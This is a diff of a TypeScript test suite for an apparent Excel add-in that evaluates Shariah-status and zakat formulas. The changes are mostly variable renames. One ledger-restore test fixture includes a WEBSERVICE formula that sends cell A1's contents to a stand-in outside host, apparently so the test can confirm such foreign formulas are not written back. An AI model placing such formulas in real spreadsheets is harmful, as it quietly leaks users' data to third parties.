@@ -49,13 +49,13 @@ async function open() {
     Excel: workbook.Excel,
     Office: { context: { requirements: { isSetSupported: () => true } } },
   });
-  const grid = excelSheets();
-  if (!grid) throw new Error("There is a workbook here.");
+  const sheets = excelSheets();
+  if (!sheets) throw new Error("There is a workbook here.");
   const record = openRecord(session);
   const { address, segment, clientId, secret } = service;
   let typed = 0;
   return {
-    host: paneHost({ session, record, grid, metadata, helps }) as Bench<OptionalPort>["host"],
+    host: paneHost({ session, record, workbook: sheets, metadata, helps }) as Bench<OptionalPort>["host"],
     good: { address, segment, clientId, secret, callsPerSecond: 50, demo: false },
     /** Tickers in column A, their verdicts beside them. */
     type: async (count: number) => {
@@ -78,7 +78,7 @@ async function open() {
     close: () => service.close(),
     session,
     workbook,
-    grid,
+    sheets,
     asked,
     service,
   };
@@ -94,7 +94,7 @@ describe("Excel's sheets", () => {
   });
   afterEach(() => bench.close());
   const idle = async () => {
-    while (bench.host.workbook.progress().cells > 0) await new Promise((resolve) => setTimeout(resolve, 5));
+    while (bench.host.activity.progress().cells > 0) await new Promise((resolve) => setTimeout(resolve, 5));
     await new Promise((resolve) => setTimeout(resolve, 5));
   };
   const column = (index: number, rows: number) =>
@@ -137,7 +137,7 @@ describe("Excel's sheets", () => {
     workbook.set("Sheet1", 2, 1, '=SHARIAH.ZAKAT("AAPL")');
     workbook.set("Sheet1", 3, 1, '=SHARIAH.ZAKAT("MSFT")');
     await idle();
-    const { sent } = host.workbook.progress();
+    const { sent } = host.activity.progress();
     let told = 0;
     const end = await host.refresher.selecting?.(() => {
       told += 1;
@@ -147,10 +147,10 @@ describe("Excel's sheets", () => {
     expect(told).toBe(2);
     expect(await host.refresher.refresh({ kind: "selection" }, 1)).toBe(false);
     await idle();
-    expect(host.workbook.progress().sent).toBe(sent);
+    expect(host.activity.progress().sent).toBe(sent);
     expect(await host.refresher.refresh({ kind: "selection" }, 2)).toBe(true);
     await idle();
-    expect(host.workbook.progress().sent).toBe(sent + 2);
+    expect(host.activity.progress().sent).toBe(sent + 2);
     end?.();
     await idle();
     workbook.select({ row: 0, column: 1, rows: 1, columnCount: 1 });
@@ -166,10 +166,10 @@ describe("Excel's sheets", () => {
     expect(await host.refresher.demands({ kind: "selection" })).toEqual([
       { what: "calculated arguments", questions: 1, most: 100 },
     ]);
-    const { sent } = host.workbook.progress();
+    const { sent } = host.activity.progress();
     await host.refresher.refresh({ kind: "selection" });
     await idle();
-    expect(host.workbook.progress().sent).toBe(sent + 1);
+    expect(host.activity.progress().sent).toBe(sent + 1);
   });
 
   test("errors: only those cells are asked again, and the journal says why", async () => {
@@ -351,7 +351,7 @@ describe("Excel's sheets", () => {
     for (let row = 0; row < 100; row += 1) workbook.set("Sheet1", row, 1, `=SHARIAH.ZAKAT("T${row}")`);
     await idle();
     const told = async () => (await host.journal.failures()).map(({ failure, cells }) => [failure.message, cells]);
-    const { sent } = host.workbook.progress();
+    const { sent } = host.activity.progress();
     const recalculated = async (act: Promise<void>) => {
       const before = bench.asked.length;
       await act;
@@ -364,7 +364,7 @@ describe("Excel's sheets", () => {
     expect(await recalculated(host.queue.askAgain("zakat"))).toBe(100);
     expect(await told()).toEqual([[fail("consent", 100, 1).message, 100]]);
     expect([host.queue.consents().length, host.queue.declined()]).toEqual([1, []]);
-    expect(host.workbook.progress().sent).toBe(sent);
+    expect(host.activity.progress().sent).toBe(sent);
     await host.queue.answer("zakat", "no");
     expect(host.queue.declined()).toHaveLength(1);
   });
@@ -420,7 +420,7 @@ describe("Excel's sheets", () => {
   });
 
   test("a ledger of earlier versions thaws; what is no formula of ours is not written", async () => {
-    const { host, workbook, grid } = bench;
+    const { host, workbook, sheets } = bench;
     await bench.type(3);
     await idle();
     const verdicts = column(1, 3);
@@ -428,7 +428,7 @@ describe("Excel's sheets", () => {
     workbook.set("Sheet1", 0, 4, "x");
     const entry = (place: readonly number[], formula: string, shows: unknown) =>
       ["old", "1", "Ali", "Sheet1", ...place.map(String), formula, JSON.stringify(shows), "{1}"] as const;
-    await grid.keepLedger([
+    await sheets.keepLedger([
       entry([0, 1, 3, 1], "=SHARIAH.STATUS(A1:A3)", verdicts[0]),
       entry([0, 4, 1, 1], '=WEBSERVICE("https://elsewhere.example/?"&A1)', "x"),
       entry([5, 5, 1, 1], "=SHARIAH.STATUS(A1)", "gone since"),
@@ -498,7 +498,7 @@ describe("Excel's sheets", () => {
     await idle();
     await host.queue.pause();
     void host.refresher.refresh({ kind: "all" });
-    while (host.workbook.progress().cells < 2) await new Promise((resolve) => setTimeout(resolve, 5));
+    while (host.activity.progress().cells < 2) await new Promise((resolve) => setTimeout(resolve, 5));
     for (const cell of ["0,1", "1,1"])
       Object.assign(workbook.sheets.get("Sheet1")?.cells.get(cell) ?? {}, { value: "HALAL" });
     expect(await host.freezer.freeze("workbook", undefined)).toMatchObject({ cells: 0, waiting: 2 });
@@ -580,7 +580,7 @@ describe("Excel's sheets", () => {
       workbook.set("Sheet1", row, 0, `T${row % 5_000}`);
       workbook.set("Sheet1", row, 1, `=SHARIAH.STATUS(A${row + 1})`);
     }
-    expect(host.workbook.progress().cells).toBe(count);
+    expect(host.activity.progress().cells).toBe(count);
     workbook.rounds.count = 0;
     workbook.rounds.most = 0;
     expect(await host.refresher.demands({ kind: "all" })).toMatchObject([{ questions: 5_000, most: 100 }]);
